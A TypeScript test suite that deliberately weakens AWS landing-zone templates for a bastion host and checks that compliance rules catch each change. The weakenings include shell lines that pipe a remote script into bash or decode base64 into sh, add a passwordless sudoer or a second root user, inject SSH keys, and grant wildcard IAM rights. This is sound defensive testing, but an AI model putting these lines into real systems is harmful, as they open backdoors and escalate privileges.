import { awsRules } from '../../constructs/nag/registry';
import type { Resource } from '../../constructs/nag/template';
import type { FacetId } from '../../constructs/standard';
import { facetsShownBy } from '../../constructs/standard/mapping';
import { demandsOf } from '../../lib/config';
import { EXAMPLES, type ExampleName, example } from '../support/landing-zone';
import { put, withoutResource } from '../support/mutants';
import { type Judged, TracedEstate } from '../support/traced-estate';
import { AssemblyCopy, type CfnDocument } from '../support/weakened-copy';

/** Something that is done to a template, how it is undone, and the verdicts that may come out otherwise. */
interface Done {
  readonly undo: () => void;
  readonly readers: readonly Judged[];
}

/** What is done to all that is found of a kind, by the beginning of its logical id. */
interface Step {
  readonly id: string;
  readonly type: string;
  /** @default - the resource is removed */
  readonly to?: (properties: Properties, resource: Resource) => unknown;
  readonly path?: string;
  /** What the name of the stack ends in. @default - in all stacks */
  readonly stack?: string;
}

type Properties = Record<string, never>;

interface Weakening {
  readonly facet: FacetId;
  readonly steps: readonly Step[];
  /** Named where the landing zone is made otherwise in others. @default - all examples */
  readonly examples?: readonly ExampleName[];
}

const textOf = (value: unknown): string => JSON.stringify(value);

/** Replaces a passage wherever it stands in a value. */
const replaced =
  (from: string, to: string) =>
  (value: unknown): unknown => {
    const [text, part, whole] = [textOf(value), textOf(from).slice(1, -1), textOf(to).slice(1, -1)];
    if (!text.includes(part)) throw new Error(`nothing of '${from}' in ${text.slice(0, 200)}`);
    return JSON.parse(text.replaceAll(part, () => whole));
  };

const without =
  (sid: string) =>
  (value: unknown): unknown => {
    const { Statement: statements, ...rest } = value as { Statement: readonly { Sid?: string }[] };
    const left = statements.filter(({ Sid }) => Sid !== sid);
    if (left.length === statements.length) throw new Error(`no statement ${sid}`);
    return { ...rest, Statement: left };
  };

const withStatement =
  (statement: object) =>
  (value: unknown): unknown => {
    const { Statement: statements, ...rest } = value as { Statement: readonly object[] };
    return { ...rest, Statement: [...statements, { Effect: 'Allow', ...statement }] };
  };

const SCRIPT = { id: 'Bastion', type: 'AWS::EC2::LaunchTemplate', path: 'LaunchTemplateData.UserData' };
const HOST_ROLE = { id: 'BastionRoleDefaultPolicy', type: 'AWS::IAM::Policy', path: 'PolicyDocument' };
const DOCUMENT = { id: 'BastionSessionDocument', type: 'AWS::SSM::Document' };
const CLIENT = 'exec /usr/bin/python3 -BEs /opt/isms-recorder/isms_shell.py /run/isms-recorder/socket';
const RECORDINGS = { id: 'ArchiveRecordings', type: 'AWS::S3::BucketPolicy', path: 'PolicyDocument' };

const everything = (id: string): Step => ({ id, type: '' });

const RECONCILED = '8.2/session-recording#session-reconciliation';
const VALIDATED = '8.2/operation-audit#log-integrity';
const USERS = '8.2/bastion#named-os-users';
const HOST = '8.2/bastion#hardened-host';
const FIXED = '8.2/bastion#fixed-session-documents';
const COMMANDS = '8.6/traceability#command-events';
const DUTIES = '8.2/no-excess-access#separation-of-duties';

const hardening = (line: string, facet: FacetId = HOST): Weakening => ({
  facet,
  steps: [{ ...SCRIPT, to: replaced(line, ':') }],
});

const added = (line: string, facet: FacetId = USERS): Weakening => ({
  facet,
  steps: [{ ...SCRIPT, to: replaced('systemctl daemon-reload\n', `systemctl daemon-reload\n${line}\n`) }],
});

const granted = (Action: string, Resource: string): Weakening => ({
  facet: HOST,
  steps: [{ ...HOST_ROLE, to: withStatement({ Action, Resource }) }],
});

const document = (path: string, value: unknown, facet: FacetId = FIXED): Weakening => ({
  facet,
  steps: [{ ...DOCUMENT, path, to: () => value }],
});

const input = (from: string, to: string): Weakening => ({
  facet: RECONCILED,
  steps: [
    {
      id: 'SessionReconciliationHandlerSchedule',
      type: 'AWS::Events::Rule',
      path: 'Targets.0.Input',
      to: replaced(from, to),
    },
  ],
});

const index = (type: string, id: string, path: string, to: Step['to']): Weakening => ({
  facet: RECONCILED,
  steps: [{ id: `SessionIndex${id}`, type, path, ...(to && { to }) }],
});

/** A count that never counts: the alarm on it stays quiet. */
const deaf = (id: string, facet: FacetId): Weakening => ({
  facet,
  steps: [{ id, type: 'AWS::Logs::MetricFilter', path: 'FilterPattern', to: () => '{ $.event = "nothing" }' }],
});

const WEAKENINGS: Readonly<Record<string, Weakening>> = {
  'no index of sessions': { facet: RECONCILED, steps: [everything('SessionIndex')] },
  'an index that is told of no recording': {
    facet: RECONCILED,
    steps: [{ id: 'SessionIndexFeed', type: 'AWS::Lambda::EventSourceMapping' }],
  },
  'a feed of the index that is off': index('AWS::Lambda::EventSourceMapping', 'Feed', 'Enabled', () => false),
  'a feed of the index from another queue': index(
    'AWS::Lambda::EventSourceMapping',
    'Feed',
    'EventSourceArn',
    () => 'arn:aws:sqs:eu-central-1:222222222222:other',
  ),
  'recordings that nobody is told of': {
    facet: RECONCILED,
    steps: [
      {
        id: 'ArchiveRecordings',
        type: 'AWS::S3::Bucket',
        path: 'NotificationConfiguration.QueueConfigurations',
        to: () => [],
      },
    ],
  },
  'no sweep of the index': {
    facet: RECONCILED,
    steps: [{ id: 'SessionIndexHandlerSchedule', type: 'AWS::Events::Rule' }],
  },
  'a sweep of the index that is off': index('AWS::Events::Rule', 'HandlerSchedule', 'State', () => 'DISABLED'),
  'a sweep of the index once a day': index(
    'AWS::Events::Rule',
    'HandlerSchedule',
    'ScheduleExpression',
    () => 'rate(1 day)',
  ),
  'an index that writes elsewhere': index(
    'AWS::Lambda::Function',
    'HandlerFunction',
    'Environment.Variables.TABLE',
    () => 'other',
  ),
  'a key of somebody else that signs recordings': index(
    'AWS::Lambda::Function',
    'HandlerFunction',
    'Environment.Variables.SIGNING_KEYS',
    (value) => ({
      'Fn::Join': [' ', [value, 'arn:aws:kms:eu-central-1:999999999999:alias/acme/recordings']],
    }),
  ),
  'recordings that are not whole, uncounted': deaf('SessionIndexHandlerCountRecordingNotWhole', RECONCILED),
  'recordings that are gone, uncounted': deaf('SessionIndexHandlerCountRecordingGone', RECONCILED),
  'processes that are not recorded, uncounted': deaf('BastionHostLogHostUnrecordedProcess', COMMANDS),
  'command alerts, uncounted': deaf('BastionHostLogHostCommandAlert', COMMANDS),
  'sessions that are refused, uncounted': deaf('BastionHostLogHostSessionRefused', COMMANDS),
  'records that the kernel lost, uncounted': deaf('BastionHostLogHostRecordsLost', COMMANDS),
  'command alerts of one severity alone': {
    facet: COMMANDS,
    steps: [
      {
        id: 'BastionHostLogHostCommandAlert',
        type: 'AWS::Logs::MetricFilter',
        path: 'FilterPattern',
        to: replaced('(($.severity = "alarm") || ($.severity = "end"))', '($.severity = "end")'),
      },
    ],
  },
  'no reconciliation of sessions': { facet: RECONCILED, steps: [everything('SessionReconciliation')] },
  'no reconciliation in one of the regions': {
    facet: RECONCILED,
    steps: [{ ...everything('SessionReconciliation'), stack: '-recovery' }],
  },
  'a schedule of the reconciliation that is off': {
    facet: RECONCILED,
    steps: [
      { id: 'SessionReconciliationHandlerSchedule', type: 'AWS::Events::Rule', path: 'State', to: () => 'DISABLED' },
    ],
  },
  'a reconciliation that looks nowhere': {
    facet: RECONCILED,
    steps: [
      {
        id: 'SessionReconciliationHandlerSchedule',
        type: 'AWS::Events::Rule',
        path: 'Targets.0.Input',
        to: () => '{"places":[],"terms":{"document":"acme-bastion","longest":240,"approval":"none"}}',
      },
    ],
  },
  'a reconciliation of sessions with another document': input('-bastion"', '-other"'),
  'a reconciliation that keeps no starts': {
    facet: RECONCILED,
    steps: [
      { id: 'SessionReconciliationHandlerStarts', type: 'AWS::Events::Rule', path: 'State', to: () => 'DISABLED' },
    ],
  },
  'starts of sessions that are handed on no more': {
    facet: RECONCILED,
    examples: ['organization'],
    steps: [{ id: 'SessionStartsRule', type: 'AWS::Events::Rule', path: 'State', to: () => 'DISABLED' }],
  },
  'starts of sessions that are handed on to somebody else': {
    facet: RECONCILED,
    examples: ['organization'],
    steps: [
      {
        id: 'SessionStartsRule',
        type: 'AWS::Events::Rule',
        path: 'Targets.0.Arn',
        to: () => 'arn:aws:events:eu-central-1:999999999999:event-bus/default',
      },
    ],
  },
  'an index that never runs': {
    facet: RECONCILED,
    steps: [
      {
        id: 'SessionIndexHandler',
        type: 'AWS::Lambda::Function',
        path: 'ReservedConcurrentExecutions',
        to: () => 0,
      },
    ],
  },
  'starts of sessions that the archive does not take': {
    facet: RECONCILED,
    examples: ['organization'],
    steps: [{ id: 'SessionReconciliationFrom', type: 'AWS::Events::EventBusPolicy' }],
  },
  'no validation of the trail': { facet: VALIDATED, steps: [everything('TrailValidation')] },
  'a validation of another trail': {
    facet: VALIDATED,
    steps: [
      {
        id: 'TrailValidationHandlerSchedule',
        type: 'AWS::Events::Rule',
        path: 'Targets.0.Input',
        to: replaced('-trail-', '-flow-'),
      },
    ],
  },
  'a validation that misses no account': {
    facet: VALIDATED,
    steps: [
      {
        id: 'TrailValidationHandlerSchedule',
        type: 'AWS::Events::Rule',
        path: 'Targets.0.Input',
        to: (value) => textOf({ ...JSON.parse(String(value)), accounts: [] }),
      },
    ],
  },
  'sudo without a password': added("echo 'alice ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/alice"),
  'a person in a group of administrators': added('usermod --append --groups wheel alice'),
  'a second root': added('useradd --non-unique --uid 0 admin'),
  'a shared user with a password': added("echo 'ec2-user:secret' | chpasswd"),
  'a shared user with a shell': hardening('usermod --lock --shell /sbin/nologin ec2-user', USERS),
  'the sudo of the image': hardening('rm -f /etc/sudoers.d/90-cloud-init-users /etc/sudoers.d/ssm-agent-users', USERS),
  'a key for SSH': added("echo 'ssh-ed25519 AAAA' >> /home/alice/.ssh/authorized_keys", HOST),
  'SSH started again': added('systemctl unmask sshd.service', HOST),
  'SSH left running': {
    facet: HOST,
    steps: [{ ...SCRIPT, to: (value) => replaced("'sshd.service'", '')(replaced('mask sshd.service', 'mask')(value)) }],
  },
  'processes that may be traced': hardening('kernel.yama.ptrace_scope = 2'),
  'namespaces of people': hardening('user.max_user_namespaces = 0'),
  'the service of units of people': {
    facet: HOST,
    steps: [
      {
        ...SCRIPT,
        to: replaced(
          'mask sshd.service crond.service atd.service user@.service',
          'mask sshd.service crond.service atd.service',
        ),
      },
    ],
  },
  'credentials of the host for everybody': hardening(
    'ExecStart=/usr/sbin/ip rule add priority 100 uidrange 1000-60000 to 169.254.169.254/32 prohibit',
  ),
  'a recorder under which people gain rights': hardening('NoNewPrivileges=yes'),
  'a shared name that may enter': { facet: USERS, steps: [{ ...SCRIPT, to: replaced('(?!(?:root|', '(?!(?:') }] },
  'sessions that no recorder has': {
    facet: HOST,
    steps: [{ ...SCRIPT, to: replaced('"managed": "required"', '"managed": "none"') }],
  },
  'a script from elsewhere': added('curl --silent https://example.com/setup | bash', HOST),
  'a script that cannot be read': added('echo ZWNobwo= | base64 --decode | sh', HOST),
  'a host that deletes logs': granted('logs:DeleteLogGroup', '*'),
  'a host that writes tables': granted('dynamodb:PutItem', '*'),
  'a host that writes tables of its own': granted('dynamodb:PutItem', 'arn:aws:dynamodb:eu-west-1:1:table/other'),
  'a host that signs with any key': granted('kms:Sign', '*'),
  'a host that does anything with instances': granted('ec2:*', '*'),
  'a host with all rights but one': {
    facet: HOST,
    steps: [{ ...HOST_ROLE, to: withStatement({ NotAction: 'iam:*', Resource: '*' }) }],
  },
  'a profile of the shell that leaves the recorder': document('Content.inputs.shellProfile', { linux: 'exec bash' }),
  'a profile of the shell that does anything': document('Content.inputs.shellProfile', { linux: 'bash' }),
  'another command than the client': document('Content.properties.linux.commands', 'bash'),
  'a client with something before it': document('Content.properties.linux.commands', `bash; ${CLIENT}`),
  'a client that people may write': document(
    'Content.properties.linux.commands',
    CLIENT.replace('/opt/isms-recorder/isms_shell.py', '/tmp/isms_shell.py'),
  ),
  'a client that asks a service of people': document(
    'Content.properties.linux.commands',
    CLIENT.replace('/run/isms-recorder/socket', '/tmp/socket'),
  ),
  'sessions stored in a bucket of somebody else': document(
    'Content.inputs.s3BucketName',
    'somebody-elses-bucket',
    '8.2/session-recording#immutable-storage',
  ),
  'a recorder that stores in a bucket of somebody else': {
    facet: '8.2/session-recording#immutable-storage',
    steps: [{ ...SCRIPT, to: replaced('"store_url": "https://', '"store_url": "https://somebody-elses-bucket.s3.') }],
  },
  'a recorder that asks for no approval': {
    facet: '8.2/bastion#hardened-host',
    examples: ['organization', 'china'],
    steps: [{ ...SCRIPT, to: replaced('"approval": "required"', '"approval": "none"') }],
  },
  'a reconciliation that asks for no approval': {
    ...input('"approval":"required"', '"approval":"none"'),
    examples: ['organization', 'china'],
  },
  'a reconciliation that lets sessions last for days': input('"longest":240', '"longest":2400'),
  'starts of sessions of users alone that are told': {
    facet: RECONCILED,
    examples: ['organization'],
    steps: [
      {
        id: 'SessionStartsRule',
        type: 'AWS::Events::Rule',
        path: 'EventPattern',
        to: (value) => {
          const pattern = value as unknown as { readonly detail: object };
          return { ...pattern, detail: { ...pattern.detail, userIdentity: { type: ['IAMUser'] } } };
        },
      },
    ],
  },
  'a table of decisions without a policy': {
    facet: DUTIES,
    steps: [{ id: 'SessionControlTable', type: 'AWS::DynamoDB::Table', path: 'ResourcePolicy', to: () => undefined }],
  },
  'an index of sessions without a policy': {
    facet: DUTIES,
    steps: [{ id: 'SessionIndexTable', type: 'AWS::DynamoDB::Table', path: 'ResourcePolicy', to: () => undefined }],
  },
  'viewings that others write': {
    facet: '8.2/session-recording#immutable-storage',
    steps: [{ ...RECORDINGS, to: without('OthersSayNothing') }],
  },
  'recordings that hosts read': {
    facet: '8.2/session-recording#immutable-storage',
    steps: [
      {
        ...RECORDINGS,
        to: (value, resource) => {
          const hosts = statementOf(value, 'HostsWriteRecordings');
          return withStatement({ ...hosts, Sid: 'HostsRead', Action: 's3:GetObject', Resource: allOf(resource) })(
            value,
          );
        },
      },
    ],
  },
};

const statementOf = (document: unknown, sid: string): object =>
  (document as { Statement: readonly { Sid?: string }[] }).Statement.find(({ Sid }) => Sid === sid) ?? {};

const allOf = (policy: Resource): object => ({
  'Fn::Join': ['', [{ 'Fn::GetAtt': [policy.referent('Bucket')?.id, 'Arn'] }, '/*']],
});

class Zone {
  readonly traced: TracedEstate;

  constructor(name: ExampleName) {
    const landingZone = example(name);
    this.traced = new TracedEstate(landingZone.estate(demandsOf(landingZone.config)).templates, awsRules);
  }

  /** Rules that become adverse, among those that show a facet. */
  noticed({ facet, steps }: Pick<Weakening, 'facet' | 'steps'>): readonly string[] {
    const done = steps.flatMap((step) => this.found(step).map((resource) => this.doneTo(resource, step)));
    const left = new Set(this.traced.resources);
    const readers = [...new Set(done.flatMap((one) => one.readers))].filter(
      ({ rule, resource }) => left.has(resource) && facetsShownBy(rule.id).includes(facet),
    );
    try {
      return this.traced.adverseAfter(readers, () => () => undefined).map(({ rule }) => rule.id);
    } finally {
      for (const { undo } of [...done].reverse()) undo();
    }
  }

  private found({ id, type, stack = '' }: Step): readonly Resource[] {
    const found = this.traced.resources.filter(
      (resource) =>
        resource.id.startsWith(id) && (type === '' || resource.type === type) && resource.template.name.endsWith(stack),
    );
    if (found.length === 0) throw new Error(`no ${type} ${id}`);
    return found;
  }

  private doneTo(resource: Resource, { path, to }: Step): Done {
    if (path === undefined || to === undefined)
      return { readers: this.traced.readersOfPresence(resource), undo: withoutResource(resource) };
    const value = to(resource.raw(path) as never, resource);
    const steps = path.split('.');
    return {
      readers: this.traced.readersOf(resource, steps[0] ?? ''),
      undo: put(resource.properties as Record<string, unknown>, steps, value),
    };
  }
}

describe.each(EXAMPLES)('examples/%s', (name) => {
  const zone = new Zone(name);
  const tried = Object.entries(WEAKENINGS).filter(([, { examples = EXAMPLES }]) => examples.includes(name));

  test.each(tried)('%s is found', (_, weakening) => {
    expect(zone.noticed(weakening)).not.toEqual([]);
  });

  test('what was done was undone', () => {
    expect(zone.traced.adverseAfter(zone.traced.judged, () => () => undefined)).toEqual([]);
  });
});

describe('controls that are removed from the archive of examples/organization', () => {
  const GONE = /^(SessionReconciliation|TrailValidation)/;
  const report = ['acme-log-archive', 'acme-log-archive-recovery']
    .reduce(
      (copy, stack) =>
        copy.edit<CfnDocument>(`cdk.out/${stack}.template.json`, ({ Resources: resources }) => {
          for (const id of Object.keys(resources).filter((one) => GONE.test(one))) delete resources[id];
        }),
      new AssemblyCopy(example('organization')),
    )
    .report();
  const facets = report.requirements.flatMap(({ design }) => design.facets);

  test.each([
    [
      RECONCILED,
      'acme-operations/Bastion/SessionDocument/Document',
      /session reconciliation is missing, .* 555555555555/,
    ],
    [VALIDATED, 'acme-organization/Trail/Trail', /trail validation is missing, .* acme-trail/],
  ])('%s: is not met, and what is absent is named', (facet, path, message) => {
    expect(facets.find(({ id }) => id === facet)?.status).toBe('not-met');
    expect(report.findings).toContainEqual(
      expect.objectContaining({
        subject: expect.objectContaining({ path }),
        message: expect.stringMatching(message),
      }),
    );
  });
});
